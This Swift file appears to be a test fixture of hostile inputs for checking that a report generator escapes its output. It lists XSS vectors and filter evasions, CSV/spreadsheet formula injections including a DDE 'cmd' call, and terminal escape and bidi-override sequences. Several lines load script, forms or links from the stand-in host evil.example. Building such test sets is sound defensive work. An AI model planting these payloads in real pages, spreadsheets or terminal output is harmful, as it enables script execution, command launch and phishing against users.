// SPDX-License-Identifier: Apache-2.0

/// Texts that a careless report would execute.
enum Payloads {
  static let html = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<math><mi xlink:href=data:x,1>",
    "</title><script>1</script>",
    "</style><script>1</script>", "</textarea><script>1</script>", "</noscript><script>1</script>",
    "<!-- --><script>1</script>", "<!--<script>", "--><script>1</script>", "--!><script>1</script>",
    "<![CDATA[<script>1</script>]]>", "]]><script>1</script>", "<?xml version=1?><x>",
    "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
    "<link rel=stylesheet href=x>",
    "<style>*{display:none}</style>", "<form action=//evil.example><button>",
    "<input autofocus onfocus=1>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<object data=x>",
    "<embed src=x>", "<template><script>1</script></template>", "<marquee onstart=alert(1)>",
    "<select onfocus=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;1",
    "&#x3c;script&#x3e;1", "&amp;lt;script&amp;gt;", "&quot; onload=&quot;1", "%3Cscript%3E1",
    "\\u003cscript\\u003e1", "\\x3cscript\\x3e", "<scr\0ipt>alert(1)</scr\0ipt>",
    "<scr\u{200B}ipt>alert(1)", "<SCRIPT>alert(1)</SCRIPT>", "<script\n>alert(1)</script\t>",
    "</ScRiPt ><ScRiPt>alert(1)", "<<script>alert(1)//<</script>", "<script src=//evil.example>",
    "\u{FEFF}<script>1", "\u{2028}<script>1</script>\u{2029}", "\u{202E}<script>tpircs",
    "＜script＞alert(1)", "javascript:alert(1)", "data:text/html,<script>1</script>",
    "{a|<b>}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}",
    "__proto__", "constructor", "\"}]}</script><script>alert(1)//", "\\\"}]};alert(1);//",
    "</p></td></tr></table><h1>", "\" style=\"position:fixed", "x\" http-equiv=\"refresh",
    "\u{0}\u{8}\u{B}\u{1B}<b>", "<b\u{FFFE}>", "a\u{0301}<i>\u{1F468}\u{200D}\u{1F469}",
  ]

  static let formulas = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "-2+3+cmd|x",
  ]

  static let escapes = [
    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{1B}]8;;http://evil.example\u{1B}\\x", "\u{9B}31m",
    "\u{9D}0;t\u{9C}", "\u{1B}P+q\u{1B}\\", "a\rb", "a\u{8}b", "\u{7F}", "\u{202E}abc", "\u{2066}x",
    "\u{1B}c", "line\nbreak", "\u{85}next", "\u{E0041}tag", "\u{200F}", "\u{061C}",
  ]
}
